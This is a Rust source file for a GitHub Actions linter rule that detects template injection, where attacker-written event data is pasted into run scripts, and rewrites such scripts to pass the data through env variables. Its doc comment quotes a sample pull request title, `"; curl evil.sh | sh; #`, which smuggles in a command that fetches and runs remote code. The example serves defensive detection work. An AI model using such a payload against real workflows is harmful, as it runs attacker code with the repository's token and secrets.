use plimsoll_actions::schema::{script_input, UntrustedContext};
use plimsoll_actions::Workflow;
use plimsoll_syntax::yaml::Node;

use super::common::{action_slug, expression_paths, is_action_slug, ValueSpans};
use super::injection_fix::{move_to_env, Language};
use super::taint::{taint_of_use, Place, Taint};
use crate::declare_rule;
use crate::finding::{RuleMeta, Severity, Sink};
use crate::rule::{Context, Rule, StepScope};

declare_rule! {
    /// ## What it does
    /// Flags `${{ }}` expressions that expand attacker-controlled data into code:
    ///
    /// - event data an outside contributor writes (issue, pull request, review, comment and
    ///   discussion titles and bodies, branch names and `owner:branch` labels, commit messages,
    ///   author names and e-mails, wiki page names, `github.head_ref`, the `workflow_run`
    ///   fields copied from the triggering run), named with the triggers that carry it;
    /// - the same data read back through an environment variable set from it at workflow, job
    ///   or step level (`env: {T: ${{ github.event.issue.title }}}`, then `${{ env.T }}`);
    /// - the text before an edit (`github.event.changes.title.from`, `changes.body.from`);
    /// - a step's output (`steps.x.outputs.y`) or a job's (`needs.j.outputs.y`) whose value is
    ///   that data: the producing step's `run:` writes it to `$GITHUB_OUTPUT` (from `${{ }}` or
    ///   an environment variable set from it), or an action whose outputs carry attacker text
    ///   (`tj-actions/changed-files` file names, `tj-actions/branch-names` branch names, …, kept
    ///   as data); when the producing step reads attacker text (the event payload, an untrusted
    ///   context) but writes the output in a way that cannot be followed, a note;
    /// - in a composite action, `${{ inputs.x }}`: the action cannot know what its callers pass,
    ///   and a workflow that forwards an issue title makes it injectable (a note: most inputs are
    ///   configuration); in a workflow, a `workflow_dispatch` or `workflow_call` string input
    ///   (a note too: callers may pass attacker text);
    ///
    /// into a `run:` script or an input that well-known actions run as code
    /// (`actions/github-script` `script`, `azure/cli` `inlineScript`, `Amadevus/pwsh-script`
    /// `script`, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `nick-fields/retry`
    /// `command`, …).
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell sees it. A pull request titled
    /// `"; curl evil.sh | sh; #` runs that command in your workflow, with its token and secrets.
    /// An environment variable set with `${{ }}` and expanded again with `${{ env.T }}` is the
    /// same paste.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Fix
    /// In a `run:` script, moves the expression into the step's `env:` (a new entry named after
    /// it, `PULL_REQUEST_TITLE`; one entry for the same expression used twice; `${{ env.T }}`
    /// becomes `$T` directly) and reads the variable where the expression was, as the step's
    /// shell does: `"$NAME"` in a plain word, `${NAME}` inside double quotes, `$env:NAME` in
    /// PowerShell (the shell comes from `shell:`, the `defaults:` of the job or workflow, or the
    /// runner: PowerShell on Windows). Safe inside double quotes, and in a plain word for a value
    /// that holds no blanks (a ref, a branch name, a SHA); unsafe where the script's meaning
    /// may change: a plain word holding a title (it is no longer split into words), single
    /// quotes (`'"$NAME"'`), an unquoted here-document. No fix under `cmd` (it expands
    /// `%NAME%` before parsing the line, so the value would still be code), in a quoted
    /// here-document, in a script of more than 200 expressions (generated ones), or for the
    /// script inputs of actions other than `actions/github-script`,
    /// whose `script:` reads `process.env.NAME`: safe inside a string or template literal
    /// (`'…' + process.env.NAME + '…'`, `${process.env.NAME}`), unsafe where the expression
    /// was pasted as code (a number or an object becomes a string).
    ///
    /// ## Use instead
    /// Pass the value through an environment variable and let the shell read it (`$TITLE`, not
    /// `${{ env.TITLE }}`), which the shell treats as data:
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    pub struct TemplateInjection {
        id: "GHA012",
        name: "template-injection",
        severity: Error,
        domain: GithubActions,
        summary: "Untrusted data is expanded into a script",
        help: "pass the value through `env:` and use the variable (`\"$TITLE\"`) in the script",
        fix: Sometimes,
    }
}

/// Where the script is: which events can reach it.
enum Reach<'a> {
    /// A workflow, with its triggers.
    Workflow(Workflow<'a>),
    /// A composite action: its callers' events.
    Composite,
}

impl Reach<'_> {
    /// How `context` reaches the script, for messages.
    fn describe(&self, context: &UntrustedContext) -> String {
        let Reach::Workflow(workflow) = self else {
            return "reachable through the calling workflow's event".to_string();
        };
        let triggers = workflow.triggers();
        let mut carried: Vec<&str> = triggers
            .iter()
            .map(|t| t.event)
            .filter(|event| context.events.contains(event))
            .collect();
        carried.dedup();
        if !carried.is_empty() {
            let names: Vec<String> = carried.iter().map(|e| format!("`{e}`")).collect();
            return format!("reachable on {}", names.join(", "));
        }
        if triggers.iter().any(|t| t.event == "workflow_call") {
            return "reachable through the calling workflow's event".to_string();
        }
        let names: Vec<String> = context.events.iter().map(|e| format!("`{e}`")).collect();
        format!(
            "set on {}, which this workflow does not run on today",
            names.join(", ")
        )
    }
}

/// The message and severity for `shown` (a path as written) expanding `taint` into `what`.
fn describe(shown: &str, taint: &Taint, reach: &Reach<'_>, what: &str) -> (String, Severity) {
    // The chain after the path itself: `env.T` holds `steps.x.outputs.y`, which holds …
    let chain = |via: &[String]| -> String {
        let rest: Vec<String> = via.iter().skip(1).map(|p| format!("`{p}`")).collect();
        if rest.is_empty() {
            String::new()
        } else {
            format!(" through {}", rest.join(", "))
        }
    };
    match taint {
        Taint::Context { context, via, .. } if via.is_empty() => (
            format!(
                "`{shown}` is written by {}, {}; it is pasted into {what}",
                context.author,
                reach.describe(context)
            ),
            Severity::Error,
        ),
        Taint::Context {
            context,
            source,
            via,
        } => (
            format!(
                "`{shown}` holds `{source}`{}, written by {}, {}; it is pasted into {what}",
                chain(via),
                context.author,
                reach.describe(context)
            ),
            Severity::Error,
        ),
        Taint::ActionOutput { what: holds, via } => (
            format!(
                "`{shown}` holds {holds}{}, which its author chooses; it is pasted into {what}",
                chain(via)
            ),
            Severity::Error,
        ),
        Taint::Input { via, .. } if via.is_empty() => {
            let who = if matches!(reach, Reach::Composite) {
                "whatever the calling workflow passes (an issue title or a branch name, if it forwards one)"
            } else {
                "a string input: whoever dispatches or calls the workflow chooses it, and a calling workflow may forward an issue title or a branch name"
            };
            (
                format!("`{shown}` is {who}; it is pasted into {what}"),
                Severity::Note,
            )
        }
        Taint::Input { source, via } => (
            format!(
                "`{shown}` holds `{source}`{}, whatever the calling workflow passes; it is pasted into {what}",
                chain(via)
            ),
            Severity::Note,
        ),
        Taint::Possible { producer, via } => (
            format!(
                "`{shown}` is written by step `{producer}`{}, which reads attacker text (the event payload or an untrusted context) in a way that cannot be followed; it may carry it into {what}",
                chain(via)
            ),
            Severity::Note,
        ),
    }
}

fn check_script(
    cx: &Context<'_>,
    scope: &StepScope<'_>,
    place: &Place<'_>,
    reach: &Reach<'_>,
    node: &Node,
    what: &str,
    out: &mut Sink,
) {
    let is_run = scope.step.run().is_some_and(|run| std::ptr::eq(run, node));
    let is_github_script = scope
        .step
        .uses_node()
        .and_then(Node::as_str)
        .is_some_and(|uses| is_action_slug(uses, "actions/github-script"))
        && scope
            .step
            .with("script")
            .is_some_and(|script| std::ptr::eq(script, node));
    let language = if is_run {
        Language::Shell
    } else {
        Language::JavaScript
    };
    let Some(text) = node.as_str() else {
        return;
    };
    let mut spans = ValueSpans::new(node);
    let mut fixes: std::collections::HashMap<&str, Result<crate::fix::Fix, String>> =
        std::collections::HashMap::new();
    for used in expression_paths(text) {
        let Some(taint) = taint_of_use(place, text, &used) else {
            continue;
        };
        // Messages quote the path as written (`env.ISSUE_TITLE`, `pages[0]`); the analysed path
        // is lowercased, with indexes as `*`.
        let (message, severity) = describe(used.written, &taint, reach, what);
        let span = spans.locate(cx.text(), used.range.clone());
        let diagnostic = out.report(&TemplateInjection::META, span, message);
        // Only the caller-dependent and undecided findings are lowered (most inputs are
        // configuration, never attacker text: 244 of them in the corpus, none reachable from
        // an event); the others keep the rule's (configurable) severity.
        if severity == Severity::Note {
            diagnostic.severity(severity);
        }
        if !is_run && !is_github_script {
            diagnostic.help(format!(
                "{} (no automatic fix: it rewrites `run:` scripts and `actions/github-script`, not the inputs other actions run)",
                TemplateInjection::META.help
            ));
            continue;
        }
        // One fix per expression, however many findings it has: each rewrite scans the script.
        let fix = fixes
            .entry(used.expression)
            .or_insert_with(|| {
                move_to_env(
                    cx.text(),
                    &scope.step,
                    scope.job.as_ref(),
                    scope.workflow,
                    node,
                    language,
                    used.expression,
                    &used.path,
                )
            })
            .clone();
        match fix {
            Ok(fix) => {
                diagnostic.fix(fix);
            }
            Err(why) => {
                diagnostic.help(format!(
                    "{} (no automatic fix: {why})",
                    TemplateInjection::META.help
                ));
            }
        }
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_step(&self, cx: &Context<'_>, scope: &StepScope<'_>, out: &mut Sink) {
        let uses = scope.step.uses_node().and_then(Node::as_str);
        let slug = uses.map(action_slug);
        let scripts: Vec<(&Node, &str)> = scope
            .step
            .run()
            .map(|run| (run, "a shell script"))
            .into_iter()
            .chain(slug.iter().flat_map(|slug| {
                scope.step.inputs().iter().filter_map(|input| {
                    let language = script_input(slug, input.key.as_str()?)?;
                    Some((&input.value, language))
                })
            }))
            .filter(|(node, _)| {
                node.as_str()
                    .is_some_and(plimsoll_syntax::expr::contains_expression)
            })
            .collect();
        if scripts.is_empty() {
            return;
        }
        // Steps without a workflow are a composite action's (`runs.steps`).
        let reach = match scope.workflow {
            Some(workflow) => Reach::Workflow(workflow),
            None => Reach::Composite,
        };
        let place = Place {
            step: Some(scope.step.node),
            job: scope.job,
            workflow: scope.workflow,
            steps: scope.siblings,
        };
        for (node, language) in scripts {
            check_script(cx, scope, &place, &reach, node, language, out);
        }
    }
}
